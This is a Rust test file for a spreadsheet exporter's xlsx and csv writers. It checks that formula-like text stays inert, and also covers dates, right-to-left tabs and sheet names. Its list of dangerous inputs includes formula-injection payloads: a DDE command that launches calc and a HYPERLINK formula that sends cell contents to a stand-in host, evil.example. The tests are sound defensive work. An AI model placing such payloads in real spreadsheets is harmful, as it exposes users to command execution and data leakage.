use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx};
use chrono::{DateTime, NaiveDate, Utc};
use proptest::prelude::*;

use super::{Cell, Sheet, SheetError, csv, decimal, xlsx};

/// Everything that a spreadsheet might run, or run after what it skips.
const DANGEROUS: [&str; 14] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1)",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "''",
    "https://evil.example",
    "{=1+1}",
];

fn sheet(rows: Vec<Vec<Cell>>) -> Sheet {
    let columns = (0..rows.first().map_or(2, Vec::len)).map(|number| format!("Colonne {number}")).collect();
    Sheet { name: "Feuille".into(), is_rtl: false, columns, rows }
}

fn made_at() -> DateTime<Utc> {
    DateTime::from_timestamp(1_600_000_000, 0).unwrap()
}

fn written(sheets: &[Sheet]) -> Vec<u8> {
    xlsx::write("Essai", sheets, made_at()).unwrap()
}

/// The parts of a workbook, by name.
fn parts(workbook: &[u8]) -> Vec<(String, String)> {
    let mut archive = zip::ZipArchive::new(Cursor::new(workbook)).unwrap();
    let count = archive.len();
    let part = |index| {
        let mut part = archive.by_index(index).unwrap();
        let mut text = String::new();
        part.read_to_string(&mut text).unwrap();
        (part.name().unwrap().into_owned(), text)
    };
    (0..count).map(part).collect()
}

fn read(workbook: &[u8], sheet: &str) -> Vec<Vec<Data>> {
    let mut workbook: Xlsx<_> = Xlsx::new(Cursor::new(workbook)).unwrap();
    workbook.worksheet_range(sheet).unwrap().rows().map(<[Data]>::to_vec).collect()
}

#[test]
fn what_looks_like_a_formula_is_text_in_every_column_and_over_it() {
    let row = |text: &str| vec![Cell::Text(text.to_owned()), Cell::Text(text.to_owned()), Cell::Text(text.to_owned())];
    let mut dangerous = sheet(DANGEROUS.iter().map(|text| row(text)).collect());
    dangerous.columns = vec!["=1+1".into(), "+1".into(), "@x".into()];
    let workbook = written(std::slice::from_ref(&dangerous));
    for (name, part) in parts(&workbook) {
        assert!(!part.contains("<f>") && !part.contains("<f ") && !part.contains("hyperlink"), "{name}: {part}");
        assert!(!name.contains("externalLink") && !name.contains("calcChain"), "{name}");
    }
    let cells = read(&workbook, "Feuille");
    assert_eq!(cells[0][0], Data::String("=1+1".into()));
    for (row, text) in cells[1..].iter().zip(DANGEROUS) {
        // The reader gives a carriage return back as XML gives it to it.
        let same = |cell: &Data| matches!(cell, Data::String(read) if read.replace('\r', "\n") == text.replace('\r', "\n") || read.contains("_x000D_"));
        assert!(row.len() == 3 && row.iter().all(same), "{text:?}: {row:?}");
    }
    let bytes = csv::write(&dangerous).unwrap();
    let raw = String::from_utf8(bytes.clone()).unwrap();
    for cell in raw.trim_start_matches('\u{feff}').split("\r\n").flat_map(|line| line.split(',')) {
        let first = cell.trim_start_matches('"').chars().next();
        assert!(!first.is_some_and(|first| "=+-@\t\r\n＝".contains(first)), "{cell:?}");
    }
    let back = csv::read(&bytes).unwrap();
    assert_eq!(back[0], dangerous.columns);
    for (row, text) in back[1..].iter().zip(DANGEROUS) {
        assert!(row.len() == 3 && row.iter().all(|cell| cell == text), "{text:?}: {row:?}");
    }
}

#[test]
fn numbers_days_and_answers_are_what_they_are() {
    let day = NaiveDate::from_ymd_opt(2020, 10, 26).unwrap();
    let cells = vec![
        Cell::Integer(-42),
        Cell::Decimal { units: 120_500, scale: 3 },
        Cell::Date(day),
        Cell::Instant(day.and_hms_opt(23, 30, 0).unwrap().and_utc()),
        Cell::Boolean(true),
        Cell::Empty,
        Cell::Integer(i64::MAX),
        Cell::Date(NaiveDate::from_ymd_opt(1860, 1, 1).unwrap()),
    ];
    let table = sheet(vec![cells]);
    let row = read(&written(std::slice::from_ref(&table)), "Feuille").remove(1);
    assert_eq!((&row[0], &row[1], &row[4], &row[5]), (&Data::Float(-42.0), &Data::Float(120.5), &Data::Bool(true), &Data::Empty));
    let time = |cell: &Data| match cell {
        Data::DateTime(time) => time.as_f64(),
        other => panic!("no date: {other:?}"),
    };
    assert!((time(&row[2]) - 44_130.0).abs() < f64::EPSILON, "26 October 2020 as Excel counts");
    assert!((time(&row[3]) - (44_131.0 + 0.5 / 24.0)).abs() < 1e-9, "half past midnight in Tunis");
    assert_eq!(row[6], Data::String("9223372036854775807".into()), "no digit is lost");
    assert_eq!(row[7], Data::String("1860-01-01".into()));
    let csv = csv::read(&csv::write(&table).unwrap()).unwrap();
    assert_eq!(csv[1], ["-42", "120.500", "2020-10-26", "2020-10-26T23:30:00Z", "true", "", "9223372036854775807", "1860-01-01"]);
}

#[test]
fn titles_stay_in_sight_and_arabic_begins_at_the_right() {
    let mut arabic = sheet(vec![vec![Cell::Text("نص".into())]]);
    (arabic.name, arabic.is_rtl) = ("المشاركون".into(), true);
    let workbook = written(&[sheet(Vec::new()), arabic]);
    let parts = parts(&workbook);
    let part = |name: &str| parts.iter().find(|(found, _)| found == name).map(|(_, part)| part.as_str()).unwrap();
    assert!(
        part("xl/worksheets/sheet2.xml").contains("rightToLeft=\"1\"")
            && !part("xl/worksheets/sheet1.xml").contains("rightToLeft")
    );
    for sheet in ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"] {
        assert!(part(sheet).contains("state=\"frozen\"") && part(sheet).contains("<cols>"), "{}", part(sheet));
    }
    assert!(part("xl/styles.xml").contains("<b/>"), "titles are bold");
    assert!(part("docProps/core.xml").contains("2020-09-13T12:26:40Z"));
    assert_eq!(read(&workbook, "المشاركون")[1][0], Data::String("نص".into()));
}

#[test]
fn the_same_tables_are_the_same_bytes() {
    let table = || sheet(vec![vec![Cell::Text("x".into()), Cell::Integer(1)]]);
    assert!(written(&[table()]) == written(&[table()]));
    assert_eq!(csv::write(&table()), csv::write(&table()));
}

#[test]
fn every_tab_has_a_name_that_excel_takes() {
    let names =
        ["", "''", "a/b:c*d?e[f]g\\h", "History", "x", "X", &"ل".repeat(60), &"ل".repeat(60), "\u{1F331}".repeat(20).as_str()]
            .map(str::to_owned);
    let sheets = names.map(|name| Sheet { name, ..sheet(Vec::new()) });
    let workbook: Xlsx<_> = Xlsx::new(Cursor::new(written(&sheets))).unwrap();
    let found = workbook.sheet_names();
    assert_eq!(found.len(), sheets.len());
    assert!(found.iter().all(|name| (1..=31).contains(&name.encode_utf16().count())), "{found:?}");
    assert_eq!((found[4].as_str(), found[5].as_str()), ("x", "X 2"));
}

#[test]
fn what_does_not_fit_is_refused_with_its_place() {
    let mut uneven = sheet(vec![vec![Cell::Empty, Cell::Empty], vec![Cell::Empty]]);
    let refused = Err(SheetError::RowWidth { row: 2 });
    assert_eq!((xlsx::write("x", &[uneven.clone()], made_at()), csv::write(&uneven)), (refused.clone(), refused));
    uneven.rows[1] = vec![Cell::Empty, Cell::Text("ن".repeat(32_768))];
    assert_eq!(xlsx::write("x", &[uneven.clone()], made_at()), Err(SheetError::TooLong { row: 2, column: 2 }));
    assert!(csv::write(&uneven).is_ok());
    assert_eq!(csv::read(b"a,b\r\nc\r\n"), Err(csv::CsvError::RowWidth { row: 2 }));
    assert_eq!(csv::read(b"a,\xff\r\n"), Err(csv::CsvError::NotUtf8));
}

#[test]
fn decimals_are_written_out() {
    assert_eq!(
        [(5, 3), (-5, 3), (120_500, 3), (7, 0), (0, 2)].map(|(units, scale)| decimal(units, scale)),
        ["0.005", "-0.005", "120.500", "7", "0.00"]
    );
}

proptest! {
    /// The real thing that is promised: whatever people write comes back as they wrote it.
    #[test]
    fn a_text_comes_back_from_csv_exactly(rows in prop::collection::vec(prop::collection::vec("['=+@\t\r\n,;\" a-]{0,6}|\\PC{0,12}", 3), 0..6)) {
        let cells = rows.iter().map(|row| row.iter().cloned().map(Cell::Text).collect()).collect();
        let table = Sheet { name: String::new(), is_rtl: false, columns: vec!["a".into(), "b".into(), "c".into()], rows: cells };
        let back = csv::read(&csv::write(&table).unwrap()).unwrap();
        prop_assert_eq!(&back[1..], &rows[..]);
    }

    #[test]
    fn no_text_becomes_a_formula(text in "['=+@\t\r\n{<&-]{1,3}\\PC{0,12}") {
        let workbook = written(&[sheet(vec![vec![Cell::Text(text)]])]);
        for (name, part) in parts(&workbook) {
            prop_assert!(!part.contains("<f>") && !part.contains("<f ") && !part.contains("<hyperlink"), "{}: {}", name, part);
        }
    }
}
